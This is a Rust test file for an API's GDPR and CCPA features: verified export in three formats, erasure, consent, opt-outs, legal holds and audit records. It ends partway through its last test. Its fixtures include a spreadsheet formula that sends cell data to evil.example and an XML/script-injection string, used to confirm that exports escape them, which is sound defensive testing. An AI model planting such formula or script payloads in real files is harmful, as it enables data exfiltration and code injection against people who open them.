//! GDPR and CCPA data-subject rights through the API: verification tokens, export in every
//! format, erasure everywhere, consent history, opt-outs, deletion with service providers.

use axum::body::Body;
use axum::http::{header, Method, Request, StatusCode};
use rampart_testkit::{contains, TestApp, TestResponse};
use serde_json::{json, Value};

const CANARY: &str = "CANARY-gdpr-4f1d-must-vanish";
const SUBJECT: &str = "subject-canary-5521";
const OTHER: &str = "subject-other-7788";
const HOSTILE_CSV: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
const HOSTILE_XML: &str = "</field><script>alert(1)</script>&amp;\u{1}";

async fn insert(app: &TestApp, token: &str, c: &str, data: Value, subject: &str) -> String {
    let res = app
        .post(&format!("/api/v1/collections/{c}/documents"), Some(token), json!({"data": data, "subject_id": subject}))
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);
    res.body["id"].as_str().unwrap().to_owned()
}

/// Three collections with the canary for `SUBJECT`, and `OTHER`'s own records beside them.
async fn seeded() -> (TestApp, String) {
    seeded_with(|_| {}).await
}

async fn seeded_with(tweak: impl FnOnce(&mut rampart_config::Config)) -> (TestApp, String) {
    let app = TestApp::with_config(tweak).await;
    let admin = app.admin_token().await;
    for (name, pii) in [("patients", json!(["email", "name"])), ("visits", json!([])), ("billing", json!(["iban"]))] {
        let res = app
            .post("/api/v1/collections", Some(&admin), json!({"name": name, "indexes": ["email"], "pii_fields": pii}))
            .await;
        assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);
    }
    insert(&app, &admin, "patients", json!({"email": "canary@example.org", "name": CANARY}), SUBJECT).await;
    insert(&app, &admin, "visits", json!({"note": CANARY, "formula": HOSTILE_CSV, "markup": HOSTILE_XML}), SUBJECT)
        .await;
    insert(&app, &admin, "billing", json!({"iban": CANARY, "nested": {"a/b": [1, {"c": CANARY}]}}), SUBJECT).await;
    insert(&app, &admin, "patients", json!({"email": "other@example.org", "name": "Other Person"}), OTHER).await;
    insert(&app, &admin, "visits", json!({"note": "other visit"}), OTHER).await;
    (app, admin)
}

async fn verification(app: &TestApp, token: &str, subject: &str) -> String {
    let res = app.post("/api/v1/gdpr/verification", Some(token), json!({"subject_id": subject})).await;
    assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);
    let t = res.body["verification_token"].as_str().unwrap();
    assert!(t.starts_with("rpv_") && t.len() > 40, "{t}");
    t.to_owned()
}

async fn erase(app: &TestApp, token: &str, body: Value) -> TestResponse {
    app.call(Method::DELETE, "/api/v1/gdpr/erasure", Some(token), Some(body)).await
}

async fn export(app: &TestApp, token: &str, subject: &str, format: &str, verification: &str) -> TestResponse {
    let req = Request::builder()
        .method(Method::GET)
        .uri(format!("/api/v1/gdpr/export?subject_id={subject}&format={format}"))
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header("x-verification-token", verification)
        .body(Body::empty())
        .unwrap();
    app.send(req).await
}

fn text(res: &TestResponse) -> String {
    String::from_utf8(res.raw.clone()).unwrap()
}

#[tokio::test]
async fn an_export_holds_every_record_of_the_subject_in_each_format_with_hostile_values_escaped() {
    let (app, admin) = seeded().await;
    let res = app
        .post(
            "/api/v1/gdpr/consent",
            Some(&admin),
            json!({"subject_id": SUBJECT, "purpose": "marketing", "granted": true}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);
    let res = app
        .post("/api/v1/ccpa/opt-out", Some(&admin), json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell"}))
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);

    let v = verification(&app, &admin, SUBJECT).await;
    let json_export = export(&app, &admin, SUBJECT, "json", &v).await;
    assert_eq!(json_export.status, StatusCode::OK, "{}", text(&json_export));
    assert_eq!(json_export.header("content-type"), Some("application/json"));
    let disposition = json_export.header("content-disposition").unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"export-") && disposition.ends_with(".json\""),
        "{disposition}"
    );
    let doc = &json_export.body;
    assert_eq!(doc["subject_id"], SUBJECT);
    let records = doc["records"].as_array().unwrap();
    let collections: Vec<&str> = records.iter().map(|r| r["collection"].as_str().unwrap()).collect();
    assert_eq!(collections, ["patients", "visits", "billing"], "every collection, in order, nothing of OTHER");
    assert_eq!(doc["record_count"], 3);
    assert_eq!(records[1]["data"]["formula"], HOSTILE_CSV, "JSON carries values exactly");
    assert_eq!(doc["consent"][0]["purpose"], "marketing");
    assert_eq!(doc["do_not_sell"], true);
    assert_eq!(doc["opt_outs"][0]["status"], "active");
    assert!(!contains(&json_export.raw, b"Other Person"));

    let again = export(&app, &admin, SUBJECT, "csv", &v).await;
    assert_eq!((again.status, again.code()), (StatusCode::FORBIDDEN, "verification_invalid"), "single use");

    let csv = export(&app, &admin, SUBJECT, "csv", &verification(&app, &admin, SUBJECT).await).await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    let csv = text(&csv);
    assert_eq!(csv.matches(CANARY).count(), 4, "the canary in all three collections (twice in billing)");
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""),
        "formula defused: {csv}"
    );
    for line in csv.lines() {
        for cell in line.split("\",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "a cell a spreadsheet would run: {cell}");
        }
    }
    assert!(csv.contains("\"/nested/a~1b/1/c\""), "unambiguous paths");
    assert!(csv.contains("\"consent\"") && csv.contains("\"do_not_sell\",\"true\""));
    assert!(csv.trim_end().ends_with("\"end\",\"\",\"\",\"\",\"\",\"\",\"record_count\",\"3\""), "{csv}");

    let xml = export(&app, &admin, SUBJECT, "xml", &verification(&app, &admin, SUBJECT).await).await;
    assert_eq!(xml.status, StatusCode::OK);
    let xml = text(&xml);
    assert!(xml.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
    assert_eq!(xml.matches(CANARY).count(), 4);
    assert!(!xml.contains("<script>") && !xml.contains("</field><script"), "markup escaped: {xml}");
    assert!(xml.contains("&lt;/field&gt;&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;\u{FFFD}"), "{xml}");
    assert!(xml.contains("<record_count>3</record_count>") && xml.trim_end().ends_with("</export>"));
    assert!(!xml.contains("Other Person"));

    let bad = export(&app, &admin, SUBJECT, "yaml", "whatever").await;
    assert_eq!((bad.status, bad.code()), (StatusCode::BAD_REQUEST, "validation_error"), "{:?}", bad.body);
}

#[tokio::test]
async fn erasure_needs_a_valid_unspent_token_for_that_subject() {
    let (app, _) = seeded().await;
    let officer = app.user_with_role("priya", "privacy_officer").await;

    let missing = erase(&app, &officer, json!({"subject_id": SUBJECT, "reason": "user_request"})).await;
    assert_eq!(missing.status, StatusCode::BAD_REQUEST, "{:?}", missing.body);
    assert!(missing.body["error"].as_str().unwrap().contains("verification_token"));

    let for_other = verification(&app, &officer, OTHER).await;
    let wrong = erase(&app, &officer, json!({"subject_id": SUBJECT, "verification_token": for_other})).await;
    assert_eq!((wrong.status, wrong.code()), (StatusCode::FORBIDDEN, "verification_invalid"));
    let made_up = erase(&app, &officer, json!({"subject_id": SUBJECT, "verification_token": "rpv_made-up"})).await;
    assert_eq!(made_up.status, StatusCode::FORBIDDEN);

    let expiring = verification(&app, &officer, SUBJECT).await;
    app.clock.advance_secs(60 * 60);
    // Sessions idle out after 30 minutes: log in again.
    let (admin, officer) = (app.admin_token().await, app.token("priya", rampart_testkit::USER_PASSWORD).await);
    let late = erase(&app, &officer, json!({"subject_id": SUBJECT, "verification_token": expiring})).await;
    assert_eq!((late.status, late.code()), (StatusCode::FORBIDDEN, "verification_invalid"), "expired after an hour");

    // A privacy officer cannot skip the identity check; an admin can, on the record.
    let skip = json!({"subject_id": SUBJECT, "override_reason": "court order 2026-114 served in person"});
    let refused = erase(&app, &officer, skip.clone()).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{:?}", refused.body);
    let short = erase(&app, &admin, json!({"subject_id": SUBJECT, "override_reason": "x"})).await;
    assert_eq!(short.status, StatusCode::BAD_REQUEST);
    assert_eq!(app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&officer)).await.body["records"], 3);

    // The token may come in the query string (a DELETE body is not carried by every client).
    let v = verification(&app, &officer, SUBJECT).await;
    let path = format!("/api/v1/gdpr/erasure?subject_id={SUBJECT}&reason=user_request&verification_token={v}");
    let done = app.call(Method::DELETE, &path, Some(&officer), None).await;
    assert_eq!(done.status, StatusCode::OK, "{:?}", done.body);
    assert_eq!(done.body["status"], "completed");
    assert_eq!(done.body["records_deleted"], 3);
    assert!(done.body["erasure_id"].as_str().unwrap().starts_with("erasure-"));
    assert!(done.body["audit_reference"].as_str().unwrap().starts_with("request:"));
    let reused = app.call(Method::DELETE, &path, Some(&officer), None).await;
    assert_eq!(reused.code(), "verification_invalid", "spent");

    let by_admin = erase(&app, &admin, json!({"subject_id": OTHER, "override_reason": "court order 2026-114"})).await;
    assert_eq!(by_admin.status, StatusCode::OK, "{:?}", by_admin.body);

    let audit = app.audit_records().await;
    let erasures: Vec<_> = audit.iter().filter(|r| r.event.event_type == "gdpr_erasure").collect();
    let outcomes: Vec<bool> = erasures.iter().map(|r| r.event.success).collect();
    assert_eq!(outcomes, [false, false, false, false, false, false, true, false, true], "every attempt recorded");
    let last = erasures.last().unwrap();
    assert_eq!(last.event.details["verified_by"], "override");
    assert_eq!(last.event.details["override_reason"], "court order 2026-114");
    assert_eq!(last.event.user.as_deref(), Some("admin"));
}

#[tokio::test]
async fn two_requests_spending_one_token_erase_once() {
    let (app, admin) = seeded().await;
    let v = verification(&app, &admin, SUBJECT).await;
    let body = json!({"subject_id": SUBJECT, "verification_token": v});
    let (a, b) = tokio::join!(erase(&app, &admin, body.clone()), erase(&app, &admin, body));
    let mut statuses = [a.status, b.status];
    statuses.sort();
    assert_eq!(statuses, [StatusCode::OK, StatusCode::FORBIDDEN]);
}

#[tokio::test]
async fn after_erasure_the_subject_is_nowhere_and_everyone_else_is_untouched() {
    let (app, admin) = seeded().await;
    app.post(
        "/api/v1/gdpr/consent",
        Some(&admin),
        json!({"subject_id": SUBJECT, "purpose": "research", "granted": true}),
    )
    .await;
    app.post("/api/v1/ccpa/opt-out", Some(&admin), json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_share"}))
        .await;
    let found = app.get("/api/v1/collections/patients/documents?email=canary@example.org", Some(&admin)).await;
    assert_eq!(found.body["documents"].as_array().unwrap().len(), 1, "the blind index finds it before");
    let stored_before = app.all_stored_bytes().into_iter().any(|(_, b)| contains(&b, SUBJECT.as_bytes()));
    assert!(stored_before, "the subject id is stored with its documents before erasure (else this test shows nothing)");

    let v = verification(&app, &admin, SUBJECT).await;
    let done =
        erase(&app, &admin, json!({"subject_id": SUBJECT, "reason": "user_request", "verification_token": v})).await;
    assert_eq!(done.status, StatusCode::OK, "{:?}", done.body);

    for c in ["patients", "visits", "billing"] {
        let res = app.get(&format!("/api/v1/collections/{c}/documents?subject_id={SUBJECT}"), Some(&admin)).await;
        assert!(res.body["documents"].as_array().unwrap().is_empty(), "{c}");
    }
    let found = app.get("/api/v1/collections/patients/documents?email=canary@example.org", Some(&admin)).await;
    assert!(found.body["documents"].as_array().unwrap().is_empty(), "its index entries are gone");
    let other = app.get(&format!("/api/v1/collections/visits/documents?subject_id={OTHER}"), Some(&admin)).await;
    assert_eq!(other.body["documents"][0]["data"]["note"], "other visit", "another subject is untouched");
    let consent = app.get(&format!("/api/v1/gdpr/consent?subject_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!(consent.body["history"], json!([]), "consent history erased");

    let summary = app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!((summary.body["records"].clone(), summary.body["previously_erased"].clone()), (json!(0), json!(true)));
    assert_eq!(summary.body["opt_outs"], json!([]), "opt-outs erased");
    let after = export(&app, &admin, SUBJECT, "json", &verification(&app, &admin, SUBJECT).await).await;
    assert_eq!(after.body["records"], json!([]));

    for (name, bytes) in app.all_stored_bytes() {
        assert!(!contains(&bytes, SUBJECT.as_bytes()), "the subject id is still in {name}");
        assert!(!contains(&bytes, CANARY.as_bytes()), "the canary is in {name}");
    }
    for r in app.audit_records().await {
        let line = serde_json::to_string(&r.event.details).unwrap();
        assert!(!line.contains(SUBJECT), "the audit record {} names the subject: {line}", r.event.event_type);
    }
}

#[tokio::test]
async fn consent_keeps_every_decision_and_the_latest_one_counts() {
    let (app, admin) = seeded().await;
    let post = |purpose: &str, granted: bool, ts: Option<&str>| {
        let mut body = json!({"subject_id": SUBJECT, "purpose": purpose, "granted": granted});
        if let Some(ts) = ts {
            body["timestamp"] = json!(ts);
        }
        app.post("/api/v1/gdpr/consent", Some(&admin), body)
    };
    assert_eq!(post("marketing", true, Some("2025-12-26T15:30:00Z")).await.status, StatusCode::CREATED);
    assert_eq!(post("research", true, None).await.status, StatusCode::CREATED);
    assert_eq!(post("marketing", false, None).await.status, StatusCode::CREATED, "withdrawal");
    let future = post("marketing", true, Some("2999-01-01T00:00:00Z")).await;
    assert_eq!(future.status, StatusCode::BAD_REQUEST, "a decision cannot be dated after it is recorded");
    let bad = post("Marketing Emails!", true, None).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);

    let res = app.get(&format!("/api/v1/gdpr/consent?subject_id={SUBJECT}"), Some(&admin)).await;
    let history: Vec<(String, bool)> = res.body["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["purpose"].as_str().unwrap().to_owned(), c["granted"].as_bool().unwrap()))
        .collect();
    let want = [("marketing", true), ("research", true), ("marketing", false)];
    assert_eq!(history, want.map(|(p, g)| (p.to_owned(), g)));
    assert_eq!(res.body["history"][0]["timestamp"], "2025-12-26T15:30:00Z");
    let current: Vec<(&str, bool)> = res.body["current"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["purpose"].as_str().unwrap(), c["granted"].as_bool().unwrap()))
        .collect();
    assert_eq!(current, [("marketing", false), ("research", true)]);
    let summary = app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!(summary.body["purposes"], json!(["research"]));
}

#[tokio::test]
async fn the_access_summary_is_computed_from_what_is_stored() {
    let (app, admin) = seeded().await;
    let officer = app.user_with_role("priya", "privacy_officer").await;
    let res = app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&officer)).await;
    assert_eq!(res.status, StatusCode::OK, "{:?}", res.body);
    let b = &res.body;
    assert_eq!(b["records"], 3);
    let names: Vec<&str> = b["collections"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["billing", "patients", "visits"]);
    assert_eq!(b["categories"], json!(["email", "iban", "name"]), "personal fields present");
    assert_eq!(b["collections"][2]["fields"], json!(["formula", "markup", "note"]));
    assert_eq!(b["do_not_sell"], false);
    assert_eq!(b["recipients"], json!([]));

    insert(&app, &admin, "visits", json!({"note": "another"}), SUBJECT).await;
    let res = app.get(&format!("/api/v1/ccpa/access?consumer_id={SUBJECT}"), Some(&officer)).await;
    assert_eq!(res.body["records"], 4, "live, not cached");
    let viewer = app.user_with_role("vic", "viewer").await;
    let denied = app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&viewer)).await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    let bad = app.get("/api/v1/gdpr/access?subject_id=", Some(&officer)).await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_ccpa_opt_out_is_confirmed_and_shows_in_access_and_export() {
    let (app, admin) = seeded().await;
    let res = app
        .post(
            "/api/v1/ccpa/opt-out",
            Some(&admin),
            json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell", "effective_date": "2026-12-31"}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED, "{:?}", res.body);
    assert!(res.body["opt_out_id"].as_str().unwrap().starts_with("optout-"));
    assert!(res.body["confirmation_number"].as_str().unwrap().starts_with("CCPA-"));
    assert_eq!(res.body["consumer_id"], SUBJECT);
    let scheduled = res.body["status"].as_str().unwrap();
    let summary = app.get(&format!("/api/v1/ccpa/access?consumer_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!(scheduled, "scheduled", "effective later this year (the clock is at 2026-01-01)");
    assert_eq!(summary.body["do_not_sell"], false, "not in effect yet");

    let now =
        app.post("/api/v1/ccpa/opt-out", Some(&admin), json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell"}));
    let now = now.await;
    assert_eq!((now.status, now.body["status"].as_str()), (StatusCode::CREATED, Some("active")));
    let summary = app.get(&format!("/api/v1/ccpa/access?consumer_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!(summary.body["do_not_sell"], true);
    let other = app.get(&format!("/api/v1/ccpa/access?consumer_id={OTHER}"), Some(&admin)).await;
    assert_eq!(other.body["do_not_sell"], false, "one consumer's opt-out is theirs alone");
    let v = verification(&app, &admin, SUBJECT).await;
    let exported = export(&app, &admin, SUBJECT, "json", &v).await;
    assert_eq!(exported.body["do_not_sell"], true);
    assert_eq!(exported.body["opt_outs"].as_array().unwrap().len(), 2);

    for (body, field) in [
        (json!({"consumer_id": SUBJECT, "opt_out_type": "sell_everything"}), "opt_out_type"),
        (
            json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell", "effective_date": "2020-01-01"}),
            "effective_date",
        ),
        (
            json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell", "effective_date": "2026-02-30"}),
            "effective_date",
        ),
        (json!({"consumer_id": "", "opt_out_type": "do_not_sell"}), "consumer_id"),
    ] {
        let res = app.post("/api/v1/ccpa/opt-out", Some(&admin), body).await;
        assert_eq!(res.status, StatusCode::BAD_REQUEST, "{:?}", res.body);
        assert!(res.body["error"].as_str().unwrap().contains(field), "{:?}", res.body);
    }
}

/// What the delivery worker records once `endpoint` took the notice `id` (no worker runs
/// in these tests).
async fn delivered(app: &TestApp, id: &str, endpoint: &str) {
    let now = rampart_core::Clock::now(&app.clock);
    rampart_store::SecurityStore::webhook_delivered(&*app.store, id, endpoint, now).await.unwrap();
}

fn provider(name: &str, url: &str) -> rampart_config::ServiceProvider {
    rampart_config::ServiceProvider {
        name: name.into(),
        endpoint: rampart_config::WebhookEndpoint {
            url: url.into(),
            secret: format!("secret-of-{name}").into(),
            format: rampart_config::WebhookFormat::Generic,
            previous: None,
        },
    }
}

#[tokio::test]
async fn a_ccpa_deletion_tells_every_service_provider_and_completes_when_they_were_told() {
    let (app, admin) = seeded_with(|c| {
        c.privacy.service_providers =
            vec![provider("analytics", "https://analytics.example/ccpa"), provider("crm", "https://crm.example/hook")];
    })
    .await;
    let v = verification(&app, &admin, SUBJECT).await;
    let res = app
        .call(
            Method::DELETE,
            "/api/v1/ccpa/delete",
            Some(&admin),
            Some(json!({"consumer_id": SUBJECT, "request_type": "consumer_request",
                "verification_method": "email_verified", "verification_token": v})),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{:?}", res.body);
    assert_eq!(res.body["status"], "processing");
    assert_eq!(res.body["records_deleted"], 3);
    assert_eq!(res.body["service_providers_notified"], json!(["analytics", "crm"]));
    let id = res.body["deletion_id"].as_str().unwrap().to_owned();

    let outbox = app.tamper().webhook_outbox();
    let notices: Vec<_> = outbox.iter().filter(|(_, event, _)| *event == id).collect();
    assert_eq!(notices.len(), 2, "{outbox:?}");
    for (endpoint, _, payload) in &notices {
        let p: Value = serde_json::from_str(payload).unwrap();
        assert_eq!((p["event_type"].as_str(), p["subject_id"].as_str()), (Some("subject_erased"), Some(SUBJECT)));
        assert!(endpoint.starts_with("https://analytics.example") || endpoint.starts_with("https://crm.example"));
    }
    delivered(&app, &id, "https://analytics.example/ccpa").await;
    assert_eq!(
        app.get(&format!("/api/v1/ccpa/delete/{id}"), Some(&admin)).await.body["status"],
        "processing",
        "crm was not told yet"
    );
    app.clock.advance_secs(5);
    delivered(&app, &id, "https://crm.example/hook").await;
    let done = app.get(&format!("/api/v1/ccpa/delete/{id}"), Some(&admin)).await.body;
    assert_eq!(done["status"], "completed");
    assert_eq!(done["completed_at"].as_str().unwrap(), rampart_core::Clock::now(&app.clock).to_rfc3339());
    for (_, event, payload) in app.tamper().webhook_outbox() {
        assert!(event != id || !payload.contains(SUBJECT), "a delivered notice keeps no subject id");
    }
    let unknown = app.get("/api/v1/ccpa/delete/deletion-0000", Some(&admin)).await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
    let viewer = app.user_with_role("vic", "viewer").await;
    assert_eq!(app.get(&format!("/api/v1/ccpa/delete/{id}"), Some(&viewer)).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn every_privacy_action_is_in_the_audit_chain_by_keyed_hash_only() {
    let (app, admin) = seeded().await;
    let v = verification(&app, &admin, SUBJECT).await;
    export(&app, &admin, SUBJECT, "csv", &v).await;
    app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&admin)).await;
    app.get(&format!("/api/v1/ccpa/access?consumer_id={SUBJECT}"), Some(&admin)).await;
    app.post("/api/v1/gdpr/consent", Some(&admin), json!({"subject_id": SUBJECT, "purpose": "ads", "granted": false}))
        .await;
    app.get(&format!("/api/v1/gdpr/consent?subject_id={SUBJECT}"), Some(&admin)).await;
    app.post("/api/v1/ccpa/opt-out", Some(&admin), json!({"consumer_id": SUBJECT, "opt_out_type": "do_not_sell"}))
        .await;
    let v = verification(&app, &admin, SUBJECT).await;
    app.call(
        Method::DELETE,
        "/api/v1/ccpa/delete",
        Some(&admin),
        Some(json!({"consumer_id": SUBJECT, "verification_token": v})),
    )
    .await;
    let v = verification(&app, &admin, OTHER).await;
    erase(&app, &admin, json!({"subject_id": OTHER, "verification_token": v})).await;

    let audit = app.audit_records().await;
    let kinds = [
        "gdpr_verification",
        "gdpr_export",
        "gdpr_access",
        "ccpa_access",
        "gdpr_consent",
        "ccpa_opt_out",
        "ccpa_delete",
        "gdpr_erasure",
    ];
    let mut hashes = std::collections::HashSet::new();
    for kind in kinds {
        let r = audit
            .iter()
            .find(|r| r.event.event_type == kind && r.event.success)
            .unwrap_or_else(|| panic!("no {kind} record"));
        assert_eq!(r.event.user.as_deref(), Some("admin"), "{kind}");
        let hash = r.event.details["subject_hash"].as_str().unwrap_or_else(|| panic!("{kind} names no subject hash"));
        assert_eq!(hash.len(), 64, "{kind}");
        hashes.insert(hash.to_owned());
    }
    assert_eq!(hashes.len(), 2, "one keyed hash per subject, the same in every record");
    let read = audit.iter().find(|r| r.event.event_type == "gdpr_consent" && r.event.details["action"] == "read");
    assert!(read.is_some(), "reading a subject's consent is recorded too");
    for r in &audit {
        let line = serde_json::to_string(&r.event.details).unwrap();
        assert!(!line.contains(SUBJECT) && !line.contains(OTHER), "{} names a subject: {line}", r.event.event_type);
    }
    let verified = app.get("/api/v1/admin/audit/verify", Some(&admin)).await;
    assert_eq!(verified.body["valid"], true, "{:?}", verified.body);
}

fn control(status: &Value, framework: &str, id: &str) -> Value {
    let controls = status["frameworks"][framework]["controls"].as_array().unwrap();
    controls.iter().find(|c| c["id"] == id).unwrap_or_else(|| panic!("no {framework} {id}: {status}")).clone()
}

#[tokio::test]
async fn compliance_fails_when_a_request_leaves_recipients_untold_for_a_month() {
    let (app, admin) =
        seeded_with(|c| c.privacy.service_providers = vec![provider("crm", "https://crm.example/hook")]).await;
    app.post("/api/v1/ccpa/opt-out", Some(&admin), json!({"consumer_id": OTHER, "opt_out_type": "do_not_sell"})).await;
    let status = app.get("/api/v1/admin/compliance/status", Some(&admin)).await.body;
    let gdpr = control(&status, "gdpr", "art12-20");
    assert_eq!(gdpr["status"], "pass", "{gdpr}");
    assert_eq!(gdpr["evidence"]["subject_requests"]["do_not_sell_count"], 1);
    assert_eq!(gdpr["evidence"]["subject_requests"]["service_providers"], json!(["crm"]));

    let v = verification(&app, &admin, SUBJECT).await;
    let res = app
        .call(
            Method::DELETE,
            "/api/v1/ccpa/delete",
            Some(&admin),
            Some(json!({"consumer_id": SUBJECT, "verification_token": v})),
        )
        .await;
    assert_eq!(res.body["status"], "processing");
    let id = res.body["deletion_id"].as_str().unwrap().to_owned();
    let status = app.get("/api/v1/admin/compliance/status", Some(&admin)).await.body;
    let ccpa = control(&status, "ccpa", "1798.105-120");
    assert_eq!(ccpa["status"], "pass", "a day-old request is not late: {ccpa}");
    assert_eq!(ccpa["evidence"]["subject_requests"]["requests_awaiting_recipients"], 1);

    app.clock.advance_secs(31 * 86_400);
    let admin = app.admin_token().await;
    let status = app.get("/api/v1/admin/compliance/status", Some(&admin)).await.body;
    assert_eq!(control(&status, "ccpa", "1798.105-120")["status"], "fail");
    assert_eq!(control(&status, "gdpr", "art12-20")["status"], "fail");
    assert_eq!(status["frameworks"]["gdpr"]["summary"]["status"], "non_compliant");

    delivered(&app, &id, "https://crm.example/hook").await;
    let status = app.get("/api/v1/admin/compliance/status", Some(&admin)).await.body;
    assert_eq!(control(&status, "ccpa", "1798.105-120")["status"], "pass", "told at last");
}

#[tokio::test]
async fn a_legal_hold_blocks_erasure_and_deletion_until_released() {
    let (app, admin) = seeded().await;
    let held = app
        .post("/api/v1/admin/legal-holds", Some(&admin), json!({"subject_id": SUBJECT, "reason": "litigation 2026-7"}))
        .await;
    assert_eq!(held.status, StatusCode::CREATED, "{:?}", held.body);
    let hold_id = held.body["hold_id"].as_str().unwrap().to_owned();
    let v = verification(&app, &admin, SUBJECT).await;
    let refused = erase(&app, &admin, json!({"subject_id": SUBJECT, "verification_token": v})).await;
    assert_eq!((refused.status, refused.code()), (StatusCode::CONFLICT, "legal_hold"), "{:?}", refused.body);
    assert!(refused.body["error"].as_str().unwrap().contains(&hold_id), "names the hold: {:?}", refused.body);
    let refused = app
        .call(
            Method::DELETE,
            "/api/v1/ccpa/delete",
            Some(&admin),
            Some(json!({"consumer_id": SUBJECT, "override_reason": "court order 1234"})),
        )
        .await;
    assert_eq!(refused.code(), "legal_hold", "a CCPA deletion too");
    let summary = app.get(&format!("/api/v1/gdpr/access?subject_id={SUBJECT}"), Some(&admin)).await;
    assert_eq!(summary.body["records"], 3, "nothing was erased");
    let audit = app.audit_records().await;
    let refusal = audit.iter().rev().find(|r| r.event.event_type == "gdpr_erasure").unwrap();
    assert!(!refusal.event.success && refusal.event.details["refused"].as_str().unwrap().contains("legal hold"));

    // A hold on a collection with one of the subject's records blocks it as well.
    let released = app.call(Method::DELETE, &format!("/api/v1/admin/legal-holds/{hold_id}"), Some(&admin), None).await;
    assert_eq!(released.status, StatusCode::OK, "{:?}", released.body);
    let held =
        app.post("/api/v1/admin/legal-holds", Some(&admin), json!({"collection": "billing", "reason": "audit"})).await;
    let collection_hold = held.body["hold_id"].as_str().unwrap().to_owned();
    let refused = erase(&app, &admin, json!({"subject_id": SUBJECT, "verification_token": v})).await;
    assert_eq!(refused.code(), "legal_hold");
    assert!(refused.body["error"].as_str().unwrap().contains(&collection_hold));
    app.call(Method::DELETE, &format!("/api/v1/admin/legal-holds/{collection_hold}"), Some(&admin), None).await;

    let done = erase(&app, &admin, json!({"subject_id": SUBJECT, "verification_token": v})).await;
    assert_eq!(done.status, StatusCode::OK, "the refused attempts spent no token: {:?}", done.body);
    assert_eq!(done.body["records_deleted"], 3);
    let holds = app.get("/api/v1/admin/legal-holds?include_released=true", Some(&admin)).await;
    assert!(
        !holds.raw.windows(SUBJECT.len()).any(|w| w == SUBJECT.as_bytes()),
        "released holds forget the id: {:?}",
        holds.body
    );
    for (name, bytes) in app.all_stored_bytes() {
        assert!(!contains(&bytes, SUBJECT.as_bytes()), "the subject id is still in {name}");
    }
}

#[tokio::test]
async fn a_held_document_can_be_neither_rewritten_nor_moved_out_from_under_its_hold() {
    let (app, admin) = seeded().await;
    let id = insert(&app, &admin, "visits", json!({"note": "evidence"}), SUBJECT).await;
    let held =
        app.post("/api/v1/admin/legal-holds", Some(&admin), json!({"subject_id": SUBJECT, "reason": "case 9"})).await;
    let hold_id = held.body["hold_id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/collections/visits/documents/{id}");
    // Moving it to another subject would take it out of the hold; rewriting it would destroy it.
    let moved =
        app.call(Method::PUT, &path, Some(&admin), Some(json!({"data": {"note": "x"}, "subject_id": OTHER}))).await;
    assert_eq!((moved.status, moved.code()), (StatusCode::CONFLICT, "legal_hold"), "{:?}", moved.body);
    assert!(moved.body["error"].as_str().unwrap().contains(&hold_id));
    let patched = app.call(Method::PATCH, &path, Some(&admin), Some(json!({"data": {"note": null}}))).await;
    assert_eq!(patched.code(), "legal_hold");
    assert_eq!(app.call(Method::DELETE, &path, Some(&admin), None).await.code(), "legal_hold");
    let kept = app.get(&path, Some(&admin)).await;
    assert_eq!(
        (kept.body["data"]["note"].as_str(), kept.body["subject_id"].as_str()),
        (Some("evidence"), Some(SUBJECT))
    );

    app.call(Method::DELETE, &format!("/api/v1/admin/legal-holds/{hold_id}"), Some(&admin), None).await;
    let moved =
        app.call(Method::PUT, &path, Some(&admin), Some(json!({"data": {"note": "x"}, "subject_id": OTHER}))).await;
    assert_eq!(moved.status, StatusCode::OK, "released: {:?}", moved.body);
}

#[tokio::test]
async fn a_subject_id_that_reads_as_a_formula_is_defused_in_the_csv_export() {
    let (app, admin) = seeded().await;
    let subject = "=HYPERLINK(\"https://evil.example\",\"x\")";
    insert(&app, &admin, "visits", json!({"note": "n", "-1": -5}), subject).await;
    let res = app.post("/api/v1/gdpr/verification", Some(&admin), json!({"subject_id": subject})).await;
    let v = res.body["verification_token"].as_str().unwrap().to_owned();
    let encoded: String = subject.bytes().map(|b| format!("%{b:02X}")).collect();
